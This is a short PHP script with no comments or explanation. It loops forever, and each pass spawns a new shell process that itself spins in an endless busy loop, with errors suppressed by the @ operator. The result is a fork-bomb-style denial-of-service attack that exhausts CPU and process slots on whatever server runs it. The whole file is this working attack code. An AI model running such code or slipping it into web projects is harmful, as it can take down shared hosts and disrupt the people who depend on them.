<?php
while (true) { @proc_open(["sh", "-c", "while :; do :; done"], [], $pipes); }
